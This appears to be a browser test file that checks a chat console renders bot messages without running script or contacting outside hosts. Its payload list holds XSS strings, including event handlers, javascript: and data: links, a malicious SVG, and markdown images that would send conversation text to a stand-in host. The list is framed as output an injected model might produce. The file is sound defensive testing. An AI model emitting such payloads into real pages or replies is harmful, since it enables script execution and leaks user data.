import { describe, expect, it } from 'vitest';
import { post } from '../../platforms/console/support/commands.ts';
import { startStage } from '../../platforms/console/support/stage.ts';
import { chromiumNote, chromiumPath, openPage } from '../support/browser.ts';

const elsewhere = 'https://elsewhere.example';

/** What a model could write, led on by whatever it has read. */
const hostile = [
  '<script>window.ran = 1</script>',
  '<img src=x onerror="window.ran = 2">',
  `<img src="${elsewhere}/html.png">`,
  `![seen](${elsewhere}/markdown.png?what=was-said)`,
  `[![both](${elsewhere}/nested.png)](${elsewhere}/page)`,
  `<iframe src="${elsewhere}/frame"></iframe><object data="${elsewhere}/o"></object>`,
  `<link rel="stylesheet" href="${elsewhere}/style.css"><style>@import url(${elsewhere}/s.css)</style>`,
  '<svg onload="window.ran = 3"><a xlink:href="javascript:window.ran=4">x</a></svg>',
  '[press me](javascript:window.ran=5)',
  '[press me too](data:text/html,<script>window.ran=6</script>)',
  '<a href="javascript:window.ran=7" autofocus onfocus="window.ran=8">x</a>',
  `[prefetch me](${elsewhere}/prefetched "title")`,
  `\`\`\`html" onmouseover="window.ran=9\n<script>window.ran = 10</script>\n\`\`\``,
  `| <b onclick="window.ran=11">x</b> | ![t](${elsewhere}/table.png) |\n|-|-|\n| 1 | 2 |`,
  '{{constructor.constructor("window.ran=12")()}} #{window.ran=13}',
  `<meta http-equiv="refresh" content="0;url=${elsewhere}/">`,
  `<form action="${elsewhere}/"><button>x</button></form>`,
  '\u202Egnp.exe \u0000 \u2028 &#x6A;avascript:window.ran=14',
].join('\n\n');

describe.skipIf(!chromiumPath)(`what a model writes, on the console page${chromiumNote}`, () => {
  it('runs nothing and loads nothing from elsewhere', async () => {
    const stage = await startStage({ commands: [post] as never[] });
    const { page, requested, complaints } = await openPage(stage.url);
    await page.locator('.line').waitFor();
    await stage.platform.adapter.post(
      await stage.address(),
      { text: hostile, link: 'javascript:window.ran=15' },
      'k',
    );
    await page.getByText('press me too').waitFor();
    await page.reload();
    await page.getByText('press me too').waitFor();
    await page.locator('.by-bot .body').hover();
    for (const text of ['press me', 'x']) {
      await page.locator('.body').getByText(text, { exact: false }).first().click();
    }
    expect(await page.evaluate('window.ran')).toBeUndefined();
    expect(page.url().startsWith(stage.url)).toBe(true);
    expect(requested.filter((address) => !address.startsWith(`${stage.url}/`))).toEqual([]);
    expect(complaints).toEqual([]);
    const made = await page.evaluate<string[]>(
      `[...new Set([...document.querySelectorAll('.by-bot .body *')].map((node) => node.localName))].sort()`,
    );
    const dangerous = [
      'script',
      'img',
      'iframe',
      'object',
      'link',
      'style',
      'form',
      'meta',
      'b',
      'input',
      'embed',
    ];
    expect(made.filter((name) => dangerous.includes(name))).toEqual([]);
  });

  it('has external links without a referrer', async () => {
    const stage = await startStage();
    const { page } = await openPage(stage.url);
    await page.locator('.line').waitFor();
    await stage.platform.adapter.post(await stage.address(), { text: hostile }, 'k');
    await page.getByText('press me too').waitFor();
    const links = await page.evaluate<{ href: string; rel: string; target: string }[]>(
      `[...document.querySelectorAll('.by-bot .body a')].map(({ href, rel, target }) => ({ href, rel, target }))`,
    );
    expect(links.length).toBeGreaterThan(3);
    for (const { href, rel, target } of links) {
      expect(href).toMatch(/^https:\/\/elsewhere\.example\//);
      expect(rel.split(' ')).toEqual(expect.arrayContaining(['noopener', 'noreferrer', 'nofollow']));
      expect(target).toBe('_blank');
    }
  });

  it('stays usable with lines without end and brackets without number', async () => {
    const stage = await startStage();
    const { page, complaints } = await openPage(stage.url);
    await page.locator('.line').waitFor();
    const address = await stage.address();
    for (const [index, text] of [
      'x'.repeat(200_000),
      '[a]('.repeat(1_000),
      '> '.repeat(2_000),
      '*_'.repeat(2_000),
    ].entries()) {
      await stage.platform.adapter.post(address, { text }, `${index}`);
    }
    await page.locator('.by-bot').nth(3).waitFor();
    expect(await page.evaluate('document.documentElement.scrollWidth - innerWidth')).toBe(0);
    await page.locator('.line').fill('still here');
    expect(await page.locator('.line').inputValue()).toBe('still here');
    expect(complaints).toEqual([]);
  });

  it('shows an opened file without running it', async () => {
    const stage = await startStage();
    const { page } = await openPage(stage.url);
    await page.locator('.line').waitFor();
    const svg = `<svg xmlns="http://www.w3.org/2000/svg"><script>parent.ran = 1; fetch('/console/state?locale=en')</script><image href="${elsewhere}/x.png"/></svg>`;
    const file = {
      name: 'x.svg',
      contentType: 'image/svg+xml',
      kind: 'image',
      description: 'x',
      size: svg.length,
      async *open() {
        yield Buffer.from(svg);
      },
    } as const;
    await stage.platform.adapter.post(await stage.address(), { files: [file] }, 'k');
    await page.locator('.picture').waitFor();
    const address = await page.locator('.picture img').getAttribute('src');
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.evaluate(`window.open(${JSON.stringify(address)}, '_self')`),
    ]);
    expect(download.suggestedFilename()).toBe('x.svg');
    expect(await page.evaluate('window.ran')).toBeUndefined();
  });
});
